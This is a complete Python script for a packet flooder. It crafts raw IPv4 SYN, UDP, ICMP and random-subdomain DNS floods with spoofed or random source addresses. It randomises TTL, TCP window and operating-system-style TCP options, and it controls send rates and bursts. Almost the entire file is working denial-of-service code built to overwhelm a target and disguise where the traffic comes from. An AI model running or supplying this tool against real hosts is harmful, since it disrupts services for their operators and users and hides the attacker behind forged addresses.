"""A flooder with a raw IPv4 socket: SYN, UDP, ICMP or DNS, with chosen TTL, window, options, sizes and sources.

Rates are held by the clock, or wander where `--random-gaps` is given; `--bursts` sends the same packets in that many bursts
with a second between them.
"""

import argparse
import random
import socket
import struct
import time


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def _sealed(head: bytes, body: bytes, at: int, src: str, dst: str, proto: int) -> bytes:
    """The segment with its checksum at byte `at`, over the pseudo header of RFC 768 and RFC 9293."""
    segment = head + body
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, len(segment))
    found = checksum(pseudo + segment) or 0xFFFF
    return segment[:at] + struct.pack("!H", found) + segment[at + 2 :]


OPTIONS = {
    "none": b"",
    "mss": b"\x02\x04\x05\xb4",
    "linux": b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + b"\x00\x12\x34\x56" + bytes(4) + b"\x01\x03\x03\x07",
    "windows": b"\x02\x04\x05\xb4\x01\x03\x03\x08\x01\x01\x04\x02",
}


def syn(o: argparse.Namespace, src: str, body: bytes) -> bytes:
    """A SYN with the chosen options, and with data where a size is given."""
    sport, seq, more = random.randint(1024, 65000), random.getrandbits(32), OPTIONS[o.options]
    port = random.choice(o.ports)
    head = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (20 + len(more)) * 4, 2, o.window or random.randint(500, 65000), 0, 0)
    return _sealed(head + more, body, 16, src, o.host, 6)


def udp(o: argparse.Namespace, src: str, body: bytes) -> bytes:
    """A datagram."""
    head = struct.pack("!HHHH", random.randint(1024, 65000), random.choice(o.ports), 8 + len(body), 0)
    return _sealed(head, body, 6, src, o.host, 17)


def icmp(o: argparse.Namespace, src: str, body: bytes) -> bytes:
    """A message of the chosen type."""
    head = struct.pack("!BBHHH", o.type, 0, 0, random.getrandbits(16), random.getrandbits(16))
    return head[:2] + struct.pack("!H", checksum(head + body)) + head[4:] + body


def dns(o: argparse.Namespace, src: str, body: bytes) -> bytes:
    """A query for a random name below the zone (RFC 1035)."""
    name = "".join(random.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=random.randint(4, 20)))
    labels = b"".join(bytes([len(part)]) + part.encode() for part in [name, *o.zone.split(".")])
    query = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + b"\0"
    return udp(o, src, query + struct.pack("!HH", o.type, 1))


KINDS = {"syn": (6, syn), "udp": (17, udp), "icmp": (1, icmp), "dns": (17, dns)}


def main() -> None:
    """Send `--count` packets."""
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("host")
    parser.add_argument("--sources", default="", help="addresses with commas between them, or random")
    parser.add_argument("--ports", default="80", help="as 80 or 1000-2000 or 53,123")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--rate", type=float, default=500)
    parser.add_argument("--random-gaps", action="store_true")
    parser.add_argument("--bursts", type=int, default=1)
    parser.add_argument("--ttl", type=int, default=0, help="0: another one each time")
    parser.add_argument("--window", type=int, default=0)
    parser.add_argument("--options", choices=sorted(OPTIONS), default="mss")
    parser.add_argument("--sizes", default="0", help="payload bytes, as 64 or 0-900")
    parser.add_argument("--type", type=int, default=8, help="ICMP type or DNS query type")
    parser.add_argument("--zone", default="lab.test")
    o = parser.parse_args()
    first, _, last = o.ports.partition("-")
    o.ports = range(int(first), int(last) + 1) if last else [int(port) for port in o.ports.split(",")]
    low, _, high = o.sizes.partition("-")
    proto, make = KINDS[o.kind]
    made = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    due, each = time.monotonic(), o.count // o.bursts
    for index in range(each * o.bursts):
        drawn = ".".join(str(random.randint(1, 126)) for _ in range(4))
        src = drawn if o.sources == "random" else random.choice(o.sources.split(","))
        body = random.randbytes(random.randint(int(low), int(high or low)))
        payload = make(o, src, body)
        ttl = o.ttl or random.choice([30, 52, 64, 100, 128, 200, 255])
        ends, number = socket.inet_aton(src) + socket.inet_aton(o.host), random.getrandbits(16)
        head = struct.pack("!BBHHHBBH8s", 0x45, 0, 0, number, 0, ttl, proto, 0, ends)
        try:
            made.sendto(head + payload, (o.host, 0))
        except OSError:
            time.sleep(0.01)
        due += random.expovariate(o.rate) if o.random_gaps else 1 / o.rate
        if index % each == each - 1:
            due += 1.0 * (o.bursts > 1)
        time.sleep(max(0.0, due - time.monotonic()))


if __name__ == "__main__":
    main()
